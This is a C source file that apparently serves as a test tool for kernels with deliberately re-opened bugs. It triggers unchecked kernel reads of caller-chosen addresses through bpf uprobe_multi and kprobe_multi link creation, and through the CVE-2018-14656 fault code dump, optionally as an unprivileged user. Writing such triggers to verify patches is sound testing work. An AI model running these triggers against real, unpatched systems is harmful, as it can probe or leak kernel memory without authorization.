// SPDX-License-Identifier: GPL-2.0
/*
 * reopened_poc: proofs of concept of the real bugs that kernel/inject/
 * re-opens besides CVE-2017-5123 (waitid_poc), for the test kernels that
 * carry them.
 *
 *   reopened_poc [--as-nobody] BUG ADDRESS
 *
 * BUG is one of
 *
 *   uprobe-multi   bpf(BPF_LINK_CREATE) of a uprobe_multi link whose
 *                  offsets array is at ADDRESS (needs CAP_BPF, CAP_PERFMON)
 *   kprobe-multi   the same for a kprobe_multi link whose array of symbol
 *                  name pointers is at ADDRESS (and CONFIG_FPROBE)
 *   code-dump      a child jumps to ADDRESS, and the kernel's report of
 *                  its fault dumps the code bytes around it
 *                  (CVE-2018-14656; no privilege)
 *
 * Without the bug the bpf calls fail with EFAULT before any access, and
 * the code dump says it cannot read the bytes; with it the kernel reads
 * ADDRESS through an unchecked helper.  The program exits 0 whatever the
 * call returned, 1 when it could not set the call up; it prints
 *
 *   reopened_poc: BUG pid=P uid=U address=0x... ret=R errno=E (strerror)
 *
 * where, for code-dump, P is the child's pid and R the signal it died of.
 * ADDRESS "self" stands for memory of the program's own, the ordinary
 * call: an offset of 0, a pointer to the name of no kernel symbol, or a
 * readable page that is not executable.
 *
 * --as-nobody drops to uid/gid 65534 with no supplementary groups first.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <grp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "as_nobody.h"


/* From include/uapi/linux/bpf.h of Linux 6.6 and later, whose values are
 * ABI: the build host's headers may predate uprobe_multi. */
#define BPF_PROG_LOAD		5
#define BPF_LINK_CREATE		28
#define BPF_PROG_TYPE_KPROBE	2
#define BPF_TRACE_KPROBE_MULTI	42
#define BPF_TRACE_UPROBE_MULTI	48


struct prog_load_attr {
	uint32_t prog_type;
	uint32_t insn_cnt;
	uint64_t insns;
	uint64_t license;
	uint32_t log_level;
	uint32_t log_size;
	uint64_t log_buf;
	uint32_t kern_version;
	uint32_t prog_flags;
	char prog_name[16];
	uint32_t prog_ifindex;
	uint32_t expected_attach_type;
};

struct link_create_attr {
	uint32_t prog_fd;
	uint32_t target_fd;
	uint32_t attach_type;
	uint32_t flags;
	union {
		struct {
			uint32_t flags;
			uint32_t cnt;
			uint64_t syms;
			uint64_t addrs;
			uint64_t cookies;
		} kprobe_multi;
		struct {
			uint64_t path;
			uint64_t offsets;
			uint64_t ref_ctr_offsets;
			uint64_t cookies;
			uint32_t cnt;
			uint32_t flags;
			uint32_t pid;
			uint32_t path_fd;
		} uprobe_multi;
	};
};

static long sys_bpf(int cmd, void *attr, unsigned int size)
{
	return syscall(SYS_bpf, cmd, attr, size);
}

/* A program that returns 0, of the type and attach type the link needs. */
static int load_kprobe_prog(uint32_t attach_type)
{
	static const uint64_t insns[] = {
		0x00000000000000b7ULL,	/* r0 = 0 */
		0x0000000000000095ULL,	/* exit */
	};
	struct prog_load_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_KPROBE;
	attr.insn_cnt = 2;
	attr.insns = (uintptr_t)insns;
	attr.license = (uintptr_t)"GPL";
	attr.expected_attach_type = attach_type;
	return sys_bpf(BPF_PROG_LOAD, &attr, sizeof(attr));
}

static uint64_t self_offsets[1];
static const char *self_syms[1] = { "reopened_poc_no_such_symbol" };

/*
 * Load a program of the link's attach type, then create the link that
 * @attr describes (its union member filled in by the caller).
 */
static long link_create(uint32_t attach_type, struct link_create_attr *attr)
{
	int prog = load_kprobe_prog(attach_type);

	if (prog < 0) {
		fprintf(stderr, "reopened_poc: loading a program of attach type %u: %s\n",
			attach_type, strerror(errno));
		exit(1);
	}
	attr->prog_fd = prog;
	attr->attach_type = attach_type;
	return sys_bpf(BPF_LINK_CREATE, attr, sizeof(*attr));
}

static long uprobe_multi(uint64_t address)
{
	struct link_create_attr attr = {
		/* Any regular file: the offsets are read before anything is probed. */
		.uprobe_multi.path = (uintptr_t)"/proc/self/exe",
		.uprobe_multi.offsets = address,
		.uprobe_multi.cnt = 1,
	};

	return link_create(BPF_TRACE_UPROBE_MULTI, &attr);
}

static long kprobe_multi(uint64_t address)
{
	struct link_create_attr attr = {
		.kprobe_multi.syms = address,
		.kprobe_multi.cnt = 1,
	};

	return link_create(BPF_TRACE_KPROBE_MULTI, &attr);
}

/* The child's fault is reported from its own context: its pid is the one
 * the report names. */
static pid_t child;

static long code_dump(uint64_t address)
{
	int status;

	child = fork();
	if (child < 0) {
		fprintf(stderr, "reopened_poc: fork: %s\n", strerror(errno));
		exit(1);
	}
	if (!child) {
		((void (*)(void))(uintptr_t)address)();
		_exit(0);
	}
	if (waitpid(child, &status, 0) != child) {
		fprintf(stderr, "reopened_poc: waitpid: %s\n", strerror(errno));
		exit(1);
	}
	errno = 0;
	return WIFSIGNALED(status) ? WTERMSIG(status) : -1;
}

/* A page of ours that can be read but not executed. */
static void *self_page(void)
{
	void *p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (p == MAP_FAILED) {
		fprintf(stderr, "reopened_poc: mmap: %s\n", strerror(errno));
		exit(1);
	}
	return (char *)p + 64;
}

static int usage(void)
{
	fprintf(stderr,
		"usage: reopened_poc [--as-nobody] uprobe-multi|kprobe-multi|code-dump ADDRESS\n");
	return 2;
}

int main(int argc, char **argv)
{
	unsigned long long address;
	const char *bug;
	char *end;
	long ret;

	if (argc > 1 && !strcmp(argv[1], "--as-nobody")) {
		if (drop_to_nobody("reopened_poc"))
			return 1;
		argc--;
		argv++;
	}
	if (argc != 3)
		return usage();
	bug = argv[1];
	errno = 0;
	if (!strcmp(argv[2], "self")) {
		if (!strcmp(bug, "uprobe-multi"))
			address = (uintptr_t)self_offsets;
		else if (!strcmp(bug, "kprobe-multi"))
			address = (uintptr_t)self_syms;
		else
			address = (uintptr_t)self_page();
	} else {
		address = strtoull(argv[2], &end, 0);
	}
	if (errno || (strcmp(argv[2], "self") && (end == argv[2] || *end))) {
		fprintf(stderr, "reopened_poc: '%s' is not an address\n", argv[2]);
		return 2;
	}

	errno = 0;
	if (!strcmp(bug, "uprobe-multi"))
		ret = uprobe_multi(address);
	else if (!strcmp(bug, "kprobe-multi"))
		ret = kprobe_multi(address);
	else if (!strcmp(bug, "code-dump"))
		ret = code_dump(address);
	else
		return usage();
	printf("reopened_poc: %s pid=%d uid=%d address=%#llx ret=%ld errno=%d (%s)\n",
	       bug, child ? child : getpid(), getuid(), address, ret,
	       ret < 0 ? errno : 0, strerror(ret < 0 ? errno : 0));
	return 0;
}
